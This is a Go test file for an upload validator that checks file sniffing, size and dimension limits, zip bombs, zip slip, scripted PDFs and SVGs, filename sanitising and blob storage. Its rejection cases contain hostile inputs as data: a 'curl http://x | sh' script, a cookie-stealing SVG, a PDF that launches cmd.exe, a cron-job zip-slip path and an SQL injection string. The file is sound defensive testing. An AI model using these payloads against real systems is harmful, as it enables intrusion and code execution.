package upload_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/zhuchao/zhuchao/internal/db"
	"github.com/zhuchao/zhuchao/internal/db/dbtest"
	"github.com/zhuchao/zhuchao/internal/errs"
	"github.com/zhuchao/zhuchao/internal/i18n"
	"github.com/zhuchao/zhuchao/internal/identity"
	"github.com/zhuchao/zhuchao/internal/store"
	"github.com/zhuchao/zhuchao/internal/upload"
)

func TestMain(m *testing.M) { dbtest.Main(m) }

// All accepts every kind, so a refusal below is about the content, not the field.
var All = upload.Kinds{upload.JPEG, upload.PNG, upload.WebP, upload.GIF, upload.PDF, upload.DWG, upload.DXF, upload.STEP, upload.ZIP}

// ---- fixtures, built at test time ----

// picture is a w×h test card: red left half, blue right half, a green bar on top.
func picture(w, h int) *image.NRGBA {
	img := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			c := color.NRGBA{R: 220, G: 20, B: 20, A: 255}
			if x >= w/2 {
				c = color.NRGBA{R: 20, G: 20, B: 220, A: 255}
			}
			if y < h/8 {
				c = color.NRGBA{R: 20, G: 200, B: 20, A: 255}
			}
			img.SetNRGBA(x, y, c)
		}
	}
	return img
}

func MustJPEG(tb testing.TB, w, h int) []byte {
	tb.Helper()
	var buf bytes.Buffer
	if err := jpeg.Encode(&buf, picture(w, h), &jpeg.Options{Quality: 90}); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

func MustPNG(tb testing.TB, img image.Image) []byte {
	tb.Helper()
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

func MustGIF(tb testing.TB, w, h int) []byte {
	tb.Helper()
	var buf bytes.Buffer
	if err := gif.Encode(&buf, picture(w, h), nil); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

// withEXIF inserts an APP1 EXIF segment with an orientation tag and some GPS-looking
// bytes after a JPEG's SOI marker.
func withEXIF(jpg []byte, orientation uint16) []byte {
	var t bytes.Buffer
	t.WriteString("MM\x00*")
	binary.Write(&t, binary.BigEndian, uint32(8)) // IFD0 offset
	binary.Write(&t, binary.BigEndian, uint16(1)) // one entry
	binary.Write(&t, binary.BigEndian, uint16(0x0112))
	binary.Write(&t, binary.BigEndian, uint16(3)) // SHORT
	binary.Write(&t, binary.BigEndian, uint32(1))
	binary.Write(&t, binary.BigEndian, orientation)
	binary.Write(&t, binary.BigEndian, uint16(0))
	binary.Write(&t, binary.BigEndian, uint32(0)) // no next IFD
	t.WriteString("GPSLatitude 31.2304N 121.4737E")
	seg := append([]byte("Exif\x00\x00"), t.Bytes()...)
	out := []byte{0xFF, 0xD8, 0xFF, 0xE1, byte((len(seg) + 2) >> 8), byte(len(seg) + 2)}
	out = append(out, seg...)
	return append(out, jpg[2:]...)
}

// bitWriter packs bits least-significant first, as VP8L wants.
type bitWriter struct {
	buf []byte
	acc uint64
	n   uint
}

func (w *bitWriter) write(v uint64, bits uint) {
	w.acc |= v << w.n
	w.n += bits
	for w.n >= 8 {
		w.buf = append(w.buf, byte(w.acc))
		w.acc >>= 8
		w.n -= 8
	}
}

// webP builds a lossless WebP of one colour: a VP8L bitstream with no transforms and
// five single-symbol prefix codes, so every pixel takes zero bits.
func webP(w, h int, c color.NRGBA) []byte {
	bw := &bitWriter{}
	bw.write(0x2f, 8)
	bw.write(uint64(w-1), 14)
	bw.write(uint64(h-1), 14)
	bw.write(0, 1) // alpha not used
	bw.write(0, 3) // version
	bw.write(0, 1) // no transform
	bw.write(0, 1) // no colour cache
	bw.write(0, 1) // no meta prefix codes
	for _, sym := range []uint8{c.G, c.R, c.B, c.A, 0} {
		bw.write(1, 1) // simple code
		bw.write(0, 1) // one symbol
		bw.write(1, 1) // 8-bit symbol
		bw.write(uint64(sym), 8)
	}
	if bw.n > 0 {
		bw.buf = append(bw.buf, byte(bw.acc))
	}
	data := bw.buf
	if len(data)%2 == 1 {
		data = append(data, 0)
	}
	var out bytes.Buffer
	out.WriteString("RIFF")
	binary.Write(&out, binary.LittleEndian, uint32(4+8+len(data)))
	out.WriteString("WEBPVP8L")
	binary.Write(&out, binary.LittleEndian, uint32(len(bw.buf)))
	out.Write(data)
	return out.Bytes()
}

// pngHeader is a PNG signature and IHDR declaring w×h, enough for DecodeConfig.
func pngHeader(w, h uint32) []byte {
	ihdr := make([]byte, 13)
	binary.BigEndian.PutUint32(ihdr[0:], w)
	binary.BigEndian.PutUint32(ihdr[4:], h)
	ihdr[8], ihdr[9] = 8, 2 // 8-bit RGB
	var out bytes.Buffer
	out.WriteString("\x89PNG\r\n\x1a\n")
	binary.Write(&out, binary.BigEndian, uint32(13))
	chunk := append([]byte("IHDR"), ihdr...)
	out.Write(chunk)
	binary.Write(&out, binary.BigEndian, crc32.ChecksumIEEE(chunk))
	out.Write(make([]byte, 64))
	return out.Bytes()
}

func pdf(body string) []byte {
	return []byte("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R " + body + " >> endobj\n" +
		"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n" +
		"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj\n" +
		"trailer << /Root 1 0 R >>\n%%EOF\n")
}

type zipEntry struct {
	name string
	data []byte
	raw  *zip.FileHeader // written with CreateRaw: sizes and data as given, for lying archives
}

func MustZip(tb testing.TB, entries ...zipEntry) []byte {
	tb.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		var w interface{ Write([]byte) (int, error) }
		var err error
		if e.raw != nil {
			w, err = zw.CreateRaw(e.raw)
		} else {
			w, err = zw.Create(e.name)
		}
		if err != nil {
			tb.Fatal(err)
		}
		if _, err := w.Write(e.data); err != nil {
			tb.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

// deflated compresses b as a raw deflate stream, via a throwaway archive.
func deflated(tb testing.TB, b []byte) []byte {
	tb.Helper()
	z := MustZip(tb, zipEntry{name: "x", data: b})
	zr, err := zip.NewReader(bytes.NewReader(z), int64(len(z)))
	if err != nil {
		tb.Fatal(err)
	}
	off, err := zr.File[0].DataOffset()
	if err != nil {
		tb.Fatal(err)
	}
	return z[off : off+int64(zr.File[0].CompressedSize64)]
}

// ---- validation ----

// refusal checks err is an upload error on the file field with key and code.
func refusal(tb testing.TB, err error, code errs.Code, key string) *errs.Error {
	tb.Helper()
	e := errs.As(err)
	if e == nil {
		tb.Fatalf("want %s (%s), got %v", key, code, err)
	}
	if e.Code != code || len(e.Fields) != 1 || e.Fields[0].Field != "file" || e.Fields[0].Msg.Key != key {
		tb.Fatalf("want %s (%s) on file, got %v", key, code, err)
	}
	if !i18n.Has(i18n.ZH, key) || !i18n.Has(i18n.EN, key) {
		tb.Fatalf("message %s missing from the catalogues", key)
	}
	return e
}

func TestRefusals(t *testing.T) {
	elf := append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 120)...)
	pe := append([]byte("MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode.\r\r\n$PE\x00\x00"), make([]byte, 64)...)
	macho := append([]byte("\xCF\xFA\xED\xFE\x07\x00\x00\x01"), make([]byte, 64)...)
	bigJPEG := MustJPEG(t, 16, 16)
	cases := []struct {
		name, file string
		data       []byte
		allowed    upload.Kinds
		code       errs.Code
		key        string
	}{
		{"ELF renamed .jpg", "photo.jpg", elf, upload.ImagesAndPDF, errs.Unsupported, "err.upload_type"},
		{"PE renamed .jpg", "invoice.jpg", pe, upload.ImagesAndPDF, errs.Unsupported, "err.upload_type"},
		{"Mach-O renamed .png", "a.png", macho, upload.ImagesAndPDF, errs.Unsupported, "err.upload_type"},
		{"shell script renamed .jpg", "a.jpg", []byte("#!/bin/sh\ncurl http://x | sh\n"), upload.ImagesAndPDF, errs.Unsupported, "err.upload_type"},
		{"SVG with script", "logo.svg", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>`), All, errs.Unsupported, "err.upload_type"},
		{"SVG renamed .png", "logo.png", []byte(`<svg onload="alert(1)"/>`), All, errs.Unsupported, "err.upload_type"},
		{"HTML", "page.pdf", []byte("<!DOCTYPE html><html><body><script>fetch('/api')</script></body></html>"), All, errs.Unsupported, "err.upload_type"},
		{"HTML after a BOM", "page.jpg", []byte("\xEF\xBB\xBF  <html><body>hi</body></html>"), All, errs.Unsupported, "err.upload_type"},
		{"plain text", "a.jpg", []byte("just some text"), All, errs.Unsupported, "err.upload_type"},
		{"PDF where only images", "licence.jpg", pdf(""), upload.Images, errs.Unsupported, "err.upload_type"},
		{"DWG where only images and PDF", "part.dwg", append([]byte("AC1032"), make([]byte, 64)...), upload.ImagesAndPDF, errs.Unsupported, "err.upload_type"},
		{"empty", "a.jpg", []byte{}, All, errs.Invalid, "err.upload_empty"},
		{"nil", "a.jpg", nil, All, errs.Invalid, "err.upload_empty"},
		{"JPEG magic then HTML", "a.jpg", []byte("\xFF\xD8\xFF<html><script>alert(1)</script></html>"), All, errs.Invalid, "err.upload_corrupt"},
		{"truncated PNG", "a.png", MustPNG(t, picture(8, 8))[:20], All, errs.Invalid, "err.upload_corrupt"},
		{"PNG declaring 100 MP", "bomb.png", pngHeader(10000, 10000), All, errs.Invalid, "err.upload_dimensions"},
		{"PNG declaring 48 MP", "bomb.png", pngHeader(8000, 6000), All, errs.Invalid, "err.upload_dimensions"},
		{"PNG 1×30000 strip", "strip.png", pngHeader(1, 30000), All, errs.Invalid, "err.upload_dimensions"},
		{"GIF declaring 65535²", "bomb.gif", append([]byte("GIF89a\xFF\xFF\xFF\xFF\x00\x00\x00"), make([]byte, 16)...), All, errs.Invalid, "err.upload_dimensions"},
		{"PDF with JavaScript", "a.pdf", pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), All, errs.Invalid, "err.upload_pdf_script"},
		{"PDF with escaped name", "a.pdf", pdf("/OpenAction << /S /J#61vaScript /J#53 (x) >>"), All, errs.Invalid, "err.upload_pdf_script"},
		{"PDF with Launch", "a.pdf", pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), All, errs.Invalid, "err.upload_pdf_script"},
		{"too large", "a.jpg", bigJPEG, All, errs.TooLarge, "err.upload_too_large"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			limit := int64(1 << 20)
			if c.key == "err.upload_too_large" {
				limit = int64(len(c.data) - 1)
			}
			_, err := upload.Validate(c.file, c.data, c.allowed, limit)
			refusal(t, err, c.code, c.key)
			if _, err := upload.New(db.NewID(), c.file, c.data, c.allowed, limit, time.Now()); err == nil {
				t.Fatal("New accepted what Validate refused")
			}
		})
	}
}

func TestRefusalMessages(t *testing.T) {
	_, err := upload.Validate("a.exe", []byte("MZ\x90\x00"), upload.ImagesAndPDF, 10<<20)
	e := refusal(t, err, errs.Unsupported, "err.upload_type")
	if got := i18n.Msg(i18n.ZH, e.Fields[0].Msg); got != "文件类型不支持:仅接受 JPG/PNG/WebP/GIF/PDF 文件。" {
		t.Errorf("zh message: %q", got)
	}
	if !strings.Contains(e.Error(), "Windows executable") {
		t.Errorf("internal cause should name the executable for logs: %v", e)
	}
	_, err = upload.Validate("a.pdf", pdf(""), upload.Documents, 100)
	e = refusal(t, err, errs.TooLarge, "err.upload_too_large")
	if got := i18n.Msg(i18n.EN, e.Fields[0].Msg); got != "File too large: the limit is 100 B." {
		t.Errorf("en message: %q", got)
	}
	_, err = upload.Validate("bomb.png", pngHeader(9000, 9000), upload.Images, 10<<20)
	e = refusal(t, err, errs.Invalid, "err.upload_dimensions")
	if got := i18n.Msg(i18n.ZH, e.Fields[0].Msg); got != "图片尺寸超出限制:最多 40 百万像素,每边最多 20000 像素。" {
		t.Errorf("zh message: %q", got)
	}
}

// TestSizeLimitBoundary: exactly the limit passes, one byte more is refused with the
// limit in the message.
func TestSizeLimitBoundary(t *testing.T) {
	const limit = 1 << 20
	doc := pdf("")
	doc = append(doc, '%')
	doc = append(doc, bytes.Repeat([]byte(" "), limit-len(doc)-1)...)
	doc = append(doc, '\n')
	if len(doc) != limit {
		t.Fatalf("fixture is %d bytes", len(doc))
	}
	if _, err := upload.Validate("spec.pdf", doc, upload.Documents, limit); err != nil {
		t.Fatalf("exactly the limit: %v", err)
	}
	_, err := upload.Validate("spec.pdf", append(doc, '\n'), upload.Documents, limit)
	e := refusal(t, err, errs.TooLarge, "err.upload_too_large")
	if got := i18n.Msg(i18n.ZH, e.Fields[0].Msg); got != "文件过大:最大 1 MB。" {
		t.Errorf("message: %q", got)
	}
}

func TestZipBombsAndUnsafeArchives(t *testing.T) {
	ten := bytes.Repeat([]byte("0"), 10<<10)
	lie := deflated(t, ten)
	cases := []struct {
		name string
		zip  []byte
		code errs.Code
		key  string
	}{
		{"declares 10 GB", MustZip(t, zipEntry{raw: &zip.FileHeader{Name: "huge.bin", Method: zip.Deflate, CompressedSize64: uint64(len(lie)), UncompressedSize64: 10 << 30, CRC32: crc32.ChecksumIEEE(ten)}, data: lie}),
			errs.TooLarge, "err.upload_archive_limits"},
		{"many entries adding up", MustZip(t,
			zipEntry{raw: &zip.FileHeader{Name: "a.bin", Method: zip.Deflate, CompressedSize64: uint64(len(lie)), UncompressedSize64: 150 << 20}, data: lie},
			zipEntry{raw: &zip.FileHeader{Name: "b.bin", Method: zip.Deflate, CompressedSize64: uint64(len(lie)), UncompressedSize64: 150 << 20}, data: lie}),
			errs.TooLarge, "err.upload_archive_limits"},
		{"expands past its header", MustZip(t, zipEntry{raw: &zip.FileHeader{Name: "small.txt", Method: zip.Deflate, CompressedSize64: uint64(len(lie)), UncompressedSize64: 100, CRC32: crc32.ChecksumIEEE(ten[:100])}, data: lie}),
			errs.Invalid, "err.upload_corrupt"},
		{"too many entries", func() []byte {
			var es []zipEntry
			for i := 0; i <= upload.MaxZipEntries; i++ {
				es = append(es, zipEntry{name: fmt.Sprintf("f%04d.txt", i)})
			}
			return MustZip(t, es...)
		}(), errs.TooLarge, "err.upload_archive_limits"},
		{"zip slip", MustZip(t, zipEntry{name: "../../etc/cron.d/evil", data: []byte("* * * * * root sh")}), errs.Invalid, "err.upload_archive_content"},
		{"absolute path", MustZip(t, zipEntry{name: "/etc/passwd", data: []byte("x")}), errs.Invalid, "err.upload_archive_content"},
		{"windows path", MustZip(t, zipEntry{name: `..\..\Windows\System32\x.dll`, data: []byte("x")}), errs.Invalid, "err.upload_archive_content"},
		{"program inside", MustZip(t, zipEntry{name: "drawings/setup.exe", data: []byte("MZ")}), errs.Invalid, "err.upload_archive_content"},
		{"macros inside", MustZip(t, zipEntry{name: "[Content_Types].xml", data: []byte("<Types/>")}, zipEntry{name: "xl/vbaProject.bin", data: []byte("x")}), errs.Invalid, "err.upload_archive_content"},
		{"encrypted entry", MustZip(t, zipEntry{raw: &zip.FileHeader{Name: "secret.dwg", Method: zip.Store, Flags: 0x1, CompressedSize64: 3, UncompressedSize64: 3}, data: []byte("abc")}), errs.Invalid, "err.upload_archive_content"},
		{"bad checksum", MustZip(t, zipEntry{raw: &zip.FileHeader{Name: "a.txt", Method: zip.Store, CompressedSize64: 3, UncompressedSize64: 3, CRC32: 1}, data: []byte("abc")}), errs.Invalid, "err.upload_corrupt"},
		{"not a zip after all", []byte("PK\x03\x04garbage"), errs.Invalid, "err.upload_corrupt"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if len(c.zip) > 256<<10 {
				t.Fatalf("a bomb fixture should be small, is %d bytes", len(c.zip))
			}
			_, err := upload.Validate("bundle.zip", c.zip, upload.Drawings, 10<<20)
			refusal(t, err, c.code, c.key)
		})
	}
	// A modest archive that really expands 1000-fold is fine.
	ok := MustZip(t, zipEntry{name: "model/part.step", data: bytes.Repeat([]byte{0}, 4<<20)}, zipEntry{name: "说明.txt", data: []byte("M8")})
	d, err := upload.Validate("图纸.zip", ok, upload.Drawings, 1<<20)
	if err != nil || d.Kind != upload.ZIP || d.Ext != ".zip" || d.DisplayName != "图纸.zip" {
		t.Fatalf("good zip: %+v %v", d, err)
	}
	// An Excel datasheet is a ZIP served as .xlsx.
	xlsx := MustZip(t, zipEntry{name: "[Content_Types].xml", data: []byte("<Types/>")}, zipEntry{name: "xl/workbook.xml", data: []byte("<workbook/>")})
	d, err = upload.Validate("参数表.xlsx", xlsx, upload.Drawings, 1<<20)
	if err != nil || d.Kind != upload.ZIP || d.Ext != ".xlsx" || !strings.Contains(d.ContentType, "spreadsheetml") || d.DisplayName != "参数表.xlsx" {
		t.Fatalf("xlsx: %+v %v", d, err)
	}
}

func TestGoodFilesAccepted(t *testing.T) {
	transparent := image.NewNRGBA(image.Rect(0, 0, 30, 20))
	cases := []struct {
		name      string
		data      []byte
		kind      upload.Kind
		ctype     string
		w, h      int
		display   string
		allowedIn upload.Kinds
	}{
		{"照片.JPG", MustJPEG(t, 64, 48), upload.JPEG, "image/jpeg", 64, 48, "照片.JPG", upload.Images},
		{"photo.jpeg", withEXIF(MustJPEG(t, 64, 48), 6), upload.JPEG, "image/jpeg", 48, 64, "photo.jpeg", upload.Images},
		{"logo.png", MustPNG(t, transparent), upload.PNG, "image/png", 30, 20, "logo.png", upload.Images},
		{"banner.gif", MustGIF(t, 40, 10), upload.GIF, "image/gif", 40, 10, "banner.gif", upload.Images},
		{"swatch.webp", webP(33, 17, color.NRGBA{R: 200, G: 100, B: 50, A: 255}), upload.WebP, "image/webp", 33, 17, "swatch.webp", upload.Images},
		{"营业执照.pdf", pdf(""), upload.PDF, "application/pdf", 0, 0, "营业执照.pdf", upload.ImagesAndPDF},
		{"bracket.dwg", append([]byte("AC1032"), make([]byte, 128)...), upload.DWG, "image/vnd.dwg", 0, 0, "bracket.dwg", upload.Drawings},
		{"flange.dxf", []byte("999\nmade by hand\n  0\nSECTION\n  2\nHEADER\n  0\nENDSEC\n  0\nEOF\n"), upload.DXF, "image/vnd.dxf", 0, 0, "flange.dxf", upload.Drawings},
		{"flange-bin.dxf", append([]byte("AutoCAD Binary DXF\r\n\x1a\x00"), 0, 1, 2), upload.DXF, "image/vnd.dxf", 0, 0, "flange-bin.dxf", upload.Drawings},
		{"bearing.stp", []byte("ISO-10303-21;\nHEADER;\nFILE_NAME('6205.stp');\nENDSEC;\nDATA;\nENDSEC;\nEND-ISO-10303-21;\n"), upload.STEP, "model/step", 0, 0, "bearing.stp", upload.Drawings},
		// The client's name and extension do not matter: content decides.
		{"scan.png", MustJPEG(t, 10, 10), upload.JPEG, "image/jpeg", 10, 10, "scan.png.jpg", upload.Images},
		{"", pdf(""), upload.PDF, "application/pdf", 0, 0, "file.pdf", upload.Documents},
	}
	for _, c := range cases {
		t.Run(c.display, func(t *testing.T) {
			d, err := upload.Validate(c.name, c.data, c.allowedIn, 1<<20)
			if err != nil {
				t.Fatal(err)
			}
			if d.Kind != c.kind || d.ContentType != c.ctype || d.Width != c.w || d.Height != c.h || d.DisplayName != c.display {
				t.Fatalf("got %+v", d)
			}
			if k, _ := upload.Sniff(c.data); k != c.kind {
				t.Fatalf("Sniff: %s", k)
			}
		})
	}
	// Text drawings carrying markup are refused.
	_, err := upload.Validate("x.stp", []byte("ISO-10303-21;\nHEADER;<script>alert(1)</script>"), upload.Drawings, 1<<20)
	refusal(t, err, errs.Unsupported, "err.upload_type")
}

func TestDisplayNames(t *testing.T) {
	jpg := MustJPEG(t, 8, 8)
	long := strings.Repeat("长", 300) + ".jpg"
	cases := map[string]string{
		"../../etc/passwd": "passwd.jpg",
		"..":               "file.jpg",
		"../../../":        "file.jpg",
		`C:\Users\张三\Desktop\产品图 (1).JPG`:    "产品图 (1).JPG",
		"report\u202Egpj.exe":                "reportgpj.exe.jpg", // right-to-left override removed
		"a\x00b\r\nc\td.jpg":                 "ab c d.jpg",
		"  .hidden.jpg  ":                    "hidden.jpg",
		`what<>:"|?*.jpg`:                    "what_______.jpg",
		"photo.jpg.exe":                      "photo.jpg.exe.jpg",
		"e\u0301\u200btoile.jpeg":            "e\u0301toile.jpeg",
		string([]byte{0xff, 0xfe, 'a', '.'}): "a.jpg",
	}
	for in, want := range cases {
		d, err := upload.Validate(in, jpg, upload.Images, 1<<20)
		if err != nil {
			t.Fatalf("%q: %v", in, err)
		}
		if d.DisplayName != want {
			t.Errorf("%q → %q, want %q", in, d.DisplayName, want)
		}
	}
	d, _ := upload.Validate(long, jpg, upload.Images, 1<<20)
	if n := utf8.RuneCountInString(d.DisplayName); n != upload.MaxNameLen || !strings.HasSuffix(d.DisplayName, "长.jpg") {
		t.Errorf("long name: %d runes %q", n, d.DisplayName)
	}
	if got := upload.SanitizeName("../../etc/passwd", upload.PDF); got != "passwd.pdf" {
		t.Errorf("SanitizeName: %q", got)
	}
}

// ---- thumbnails ----

func decodeJPEG(tb testing.TB, b []byte) image.Image {
	tb.Helper()
	if !bytes.HasPrefix(b, []byte("\xFF\xD8\xFF")) {
		tb.Fatalf("not a JPEG: % x", b[:min(8, len(b))])
	}
	img, err := jpeg.Decode(bytes.NewReader(b))
	if err != nil {
		tb.Fatalf("thumbnail does not decode: %v", err)
	}
	return img
}

func near(c color.Color, r, g, b uint8) bool {
	cr, cg, cb, _ := c.RGBA()
	d := func(x uint32, y uint8) bool { return int(x>>8)-int(y) < 40 && int(y)-int(x>>8) < 40 }
	return d(cr, r) && d(cg, g) && d(cb, b)
}

func TestThumbnail(t *testing.T) {
	cases := []struct {
		name   string
		data   []byte
		side   int
		w, h   int
		topMid [3]uint8 // colour just below the top edge, centre
	}{
		{"landscape JPEG", MustJPEG(t, 1600, 900), 240, 240, 135, [3]uint8{20, 200, 20}},
		{"portrait PNG", MustPNG(t, picture(300, 1000)), 240, 72, 240, [3]uint8{20, 200, 20}},
		{"small GIF is not enlarged", MustGIF(t, 100, 50), 240, 100, 50, [3]uint8{20, 200, 20}},
		{"WebP", webP(500, 250, color.NRGBA{R: 200, G: 100, B: 50, A: 255}), 240, 240, 120, [3]uint8{200, 100, 50}},
		{"transparent PNG on white", MustPNG(t, image.NewNRGBA(image.Rect(0, 0, 480, 480))), 240, 240, 240, [3]uint8{255, 255, 255}},
		// Orientation 6: the stored image is turned 90° clockwise for display, so its
		// left half (red) becomes the top.
		{"EXIF-rotated JPEG", withEXIF(MustJPEG(t, 400, 200), 6), 240, 120, 240, [3]uint8{220, 20, 20}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			th, err := upload.Thumbnail(c.data, c.side)
			if err != nil {
				t.Fatal(err)
			}
			img := decodeJPEG(t, th)
			if b := img.Bounds(); b.Dx() != c.w || b.Dy() != c.h {
				t.Fatalf("thumbnail is %d×%d, want %d×%d", b.Dx(), b.Dy(), c.w, c.h)
			}
			if px := img.At(c.w/2, 2); !near(px, c.topMid[0], c.topMid[1], c.topMid[2]) {
				t.Errorf("top centre pixel %v, want about %v", px, c.topMid)
			}
			if bytes.Contains(th, []byte("Exif")) || bytes.Contains(th, []byte("GPS")) {
				t.Error("thumbnail carries metadata")
			}
		})
	}
	if _, err := upload.Thumbnail(pngHeader(10000, 10000), 240); !errs.Is(err, errs.Invalid) {
		t.Errorf("bomb: %v", err)
	}
	if _, err := upload.Thumbnail(pdf(""), 240); err == nil {
		t.Error("PDF thumbnail")
	}
}

func TestNewBuildsBlob(t *testing.T) {
	owner := db.NewID()
	now := time.Date(2026, 11, 24, 10, 0, 0, 0, time.UTC)
	jpg := withEXIF(MustJPEG(t, 2000, 1500), 1)
	b, err := upload.New(owner, "../../etc/passwd", jpg, upload.Images, 10<<20, now)
	if err != nil {
		t.Fatal(err)
	}
	if !db.ValidID(b.ID) || b.Filename() != b.ID+".jpg" || strings.Contains(b.Filename(), "passwd") {
		t.Fatalf("stored name %q", b.Filename())
	}
	if b.DisplayName != "passwd.jpg" || b.Size != int64(len(jpg)) || len(b.SHA256) != 64 || b.Width != 2000 || b.Height != 1500 || b.OwnerOrgID != owner || !b.CreatedAt.Equal(now) {
		t.Fatalf("blob: %+v", b)
	}
	if len(b.Variants) != len(upload.ImageVariants) {
		t.Fatalf("%d variants", len(b.Variants))
	}
	for i, v := range b.Variants {
		img := decodeJPEG(t, v.Data)
		side := upload.ImageVariants[i].MaxSide
		if v.Name != upload.ImageVariants[i].Name || v.ContentType != "image/jpeg" || img.Bounds().Dx() != side || v.Width != side || v.Height != side*3/4 {
			t.Errorf("variant %s: %d×%d (%d×%d)", v.Name, v.Width, v.Height, img.Bounds().Dx(), img.Bounds().Dy())
		}
	}
	if !b.Inline() || b.Disposition() != `inline; filename=passwd.jpg` {
		t.Errorf("disposition %q", b.Disposition())
	}
	d, err := upload.New(owner, "报价单 2026.pdf", pdf(""), upload.Documents, 1<<20, now)
	if err != nil {
		t.Fatal(err)
	}
	if len(d.Variants) != 0 || d.Inline() || d.Disposition() != `attachment; filename*=utf-8''%E6%8A%A5%E4%BB%B7%E5%8D%95%202026.pdf` {
		t.Errorf("pdf blob: %d variants, %q", len(d.Variants), d.Disposition())
	}
}

func TestCanRead(t *testing.T) {
	owner := db.NewID()
	staff := &identity.Principal{Org: identity.Org{ID: db.NewID(), Kind: identity.Platform}, Roles: []identity.Role{identity.CustomerService}}
	member := &identity.Principal{Org: identity.Org{ID: owner, Kind: identity.Supplier}, Roles: []identity.Role{identity.Staff}}
	other := &identity.Principal{Org: identity.Org{ID: db.NewID(), Kind: identity.Buyer}, Roles: []identity.Role{identity.Owner}}
	cases := []struct {
		who    *identity.Principal
		public bool
		want   bool
	}{
		{nil, true, true}, {nil, false, false},
		{member, false, true}, {staff, false, true},
		{other, false, false}, {other, true, true},
	}
	for i, c := range cases {
		if got := upload.CanRead(c.who, owner, c.public); got != c.want {
			t.Errorf("case %d: CanRead = %v", i, got)
		}
	}
}

// ---- store, on both engines ----

func mustOrg(tb testing.TB, d *db.DB, name string) string {
	tb.Helper()
	o := &identity.Org{Kind: identity.Supplier, Name: name, Status: "active", CreatedAt: time.Now(), UpdatedAt: time.Now()}
	if err := store.New(d).CreateOrg(context.Background(), o); err != nil {
		tb.Fatal(err)
	}
	return o.ID
}

func TestBlobStore(t *testing.T) {
	dbtest.Run(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		st := store.New(d)
		var _ upload.Store = st
		org := mustOrg(t, d, "宁波紧固件有限公司")
		now := time.UnixMilli(time.Date(2026, 11, 24, 10, 0, 0, 0, time.UTC).UnixMilli())
		img, err := upload.New(org, "M8 螺栓.png", MustPNG(t, picture(800, 600)), upload.Images, 10<<20, now)
		if err != nil {
			t.Fatal(err)
		}
		img.Public = true
		if err := st.PutBlob(ctx, img); err != nil {
			t.Fatal(err)
		}
		got, err := st.Blob(ctx, img.ID)
		if err != nil {
			t.Fatal(err)
		}
		if got.ID != img.ID || got.OwnerOrgID != org || got.Kind != upload.PNG || got.ContentType != "image/png" || got.Ext != ".png" ||
			got.Size != img.Size || got.SHA256 != img.SHA256 || got.DisplayName != "M8 螺栓.png" || got.Width != 800 || got.Height != 600 ||
			!got.Public || !bytes.Equal(got.Data, img.Data) || !got.CreatedAt.Equal(now) || got.Filename() != img.ID+".png" {
			t.Fatalf("round trip: %+v", got)
		}
		v, err := st.BlobVariant(ctx, img.ID, "thumb240")
		if err != nil {
			t.Fatal(err)
		}
		if v.ContentType != "image/jpeg" || v.Width != 240 || v.Height != 180 || !bytes.Equal(v.Data, img.Variants[0].Data) {
			t.Fatalf("variant: %s %d×%d", v.ContentType, v.Width, v.Height)
		}
		decodeJPEG(t, v.Data)
		if owner, public, err := st.BlobOwner(ctx, img.ID); err != nil || owner != org || !public {
			t.Fatalf("owner: %s %v %v", owner, public, err)
		}

		doc, err := upload.New(org, "营业执照.pdf", pdf(""), upload.ImagesAndPDF, 10<<20, now)
		if err != nil {
			t.Fatal(err)
		}
		if err := st.PutBlob(ctx, doc); err != nil {
			t.Fatal(err)
		}
		if owner, public, err := st.BlobOwner(ctx, doc.ID); err != nil || owner != org || public {
			t.Fatalf("private owner: %s %v %v", owner, public, err)
		}

		for _, id := range []string{"", "../../etc/passwd", "not-a-uuid", "' OR 1=1 --", db.NewID()} {
			if _, err := st.Blob(ctx, id); !errs.Is(err, errs.NotFound) {
				t.Errorf("Blob(%q): %v", id, err)
			}
			if _, _, err := st.BlobOwner(ctx, id); !errs.Is(err, errs.NotFound) {
				t.Errorf("BlobOwner(%q): %v", id, err)
			}
			if _, err := st.BlobVariant(ctx, id, "thumb240"); !errs.Is(err, errs.NotFound) {
				t.Errorf("BlobVariant(%q): %v", id, err)
			}
		}
		if _, err := st.BlobVariant(ctx, img.ID, "huge"); !errs.Is(err, errs.NotFound) {
			t.Errorf("missing variant: %v", err)
		}
		if _, err := st.BlobVariant(ctx, doc.ID, "thumb240"); !errs.Is(err, errs.NotFound) {
			t.Errorf("PDF variant: %v", err)
		}
	})
}

// TestPutBlobAllOrNothing: a failure between writing the blob and its variants leaves
// neither.
func TestPutBlobAllOrNothing(t *testing.T) {
	dbtest.Run(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		st := store.New(d)
		org := mustOrg(t, d, "苏州气动元件厂")
		b, err := upload.New(org, "cylinder.jpg", MustJPEG(t, 300, 300), upload.Images, 10<<20, time.Now())
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		d.Hook = func(ctx context.Context, point string) error {
			if point == "blob.variant" {
				if n++; n == 2 {
					return errors.New("injected fault")
				}
			}
			return nil
		}
		if err := st.PutBlob(ctx, b); err == nil {
